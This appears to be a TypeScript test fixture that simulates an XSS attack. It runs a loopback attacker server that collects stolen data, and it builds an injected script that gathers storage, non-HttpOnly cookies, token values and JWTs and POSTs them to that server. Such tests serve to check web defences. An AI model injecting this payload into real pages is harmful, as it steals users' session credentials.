import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A JWT, as the injected script and the test look for it. */
export const JWT_SHAPE = /eyJ[\w-]+\.eyJ[\w-]+\.[\w-]*/;

/** What the injected script sends home: everything script on the page can read. */
export interface Loot {
  origin: string;
  localStorage: Record<string, string>;
  sessionStorage: Record<string, string>;
  /** `document.cookie`: the cookies that are not HttpOnly. */
  cookies: string;
  /** Anything token-shaped: values named `token` or `…_token` (in storage, also inside JSON), and JWTs anywhere. */
  tokens: { where: string; value: string }[];
}

/** The attacker's server, on its own loopback origin: it keeps what injected scripts send it. */
export interface Attacker {
  readonly url: string;
  readonly loot: Loot[];
  close(): Promise<void>;
}

/** Starts the attacker's collecting server on 127.0.0.1, open to any origin (CORS). */
export async function startAttacker(): Promise<Attacker> {
  const loot: Loot[] = [];
  const server = createServer((req, res) => {
    res.setHeader('access-control-allow-origin', '*');
    if (req.method === 'OPTIONS') {
      res.writeHead(204, { 'access-control-allow-methods': 'POST', 'access-control-allow-headers': '*' }).end();
      return;
    }
    if (req.method !== 'POST' || req.url !== '/loot') {
      res.writeHead(404).end();
      return;
    }
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      loot.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Loot);
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    loot,
    close: () =>
      new Promise<void>((resolve, reject) => {
        server.close((error) => (error ? reject(error) : resolve()));
        server.closeAllConnections();
      }),
  };
}

/**
 * The injected script's work, in the page: collect what script can read and send it to `reportUrl`.
 * Resolves whether the report got through. Runs in the browser, so it uses nothing from outside.
 */
async function steal(reportUrl: string, jwtShape: string): Promise<boolean> {
  const jwt = new RegExp(jwtShape, 'g');
  const read = (store: Storage): Record<string, string> =>
    Object.fromEntries(
      Array.from({ length: store.length }, (_, index) => store.key(index) ?? '').map((key) => [key, store.getItem(key) ?? '']),
    );
  const tokens: { where: string; value: string }[] = [];
  const search = (value: unknown, where: string, name = ''): void => {
    if (typeof value === 'string') {
      if (/(?:^|_)token$/i.test(name)) tokens.push({ where, value });
      for (const match of value.match(jwt) ?? []) tokens.push({ where: `${where} (JWT)`, value: match });
      try {
        const parsed: unknown = JSON.parse(value);
        if (parsed !== null && typeof parsed === 'object') search(parsed, where);
      } catch {
        // not JSON
      }
    } else if (value !== null && typeof value === 'object') {
      for (const [key, inner] of Object.entries(value)) search(inner, `${where}[${JSON.stringify(key)}]`, key);
    }
  };
  const loot = {
    origin: location.origin,
    localStorage: read(localStorage),
    sessionStorage: read(sessionStorage),
    cookies: document.cookie,
    tokens,
  };
  search(loot.localStorage, 'localStorage');
  search(loot.sessionStorage, 'sessionStorage');
  search(loot.cookies, 'document.cookie');
  search(document.documentElement.outerHTML, 'document');
  search(location.href, 'location');
  try {
    await fetch(reportUrl, { method: 'POST', body: JSON.stringify(loot) });
    return true;
  } catch {
    return false; // refused, e.g. by a Content-Security-Policy
  }
}

/**
 * The script an XSS injects, as one string (the same for every app): it runs {@link steal} and
 * sends the loot to the attacker's `/loot`. Evaluated in a page, it resolves whether that worked.
 */
export function injectedScript(attacker: Attacker): string {
  return `(${steal.toString()})(${JSON.stringify(`${attacker.url}/loot`)}, ${JSON.stringify(JWT_SHAPE.source)})`;
}
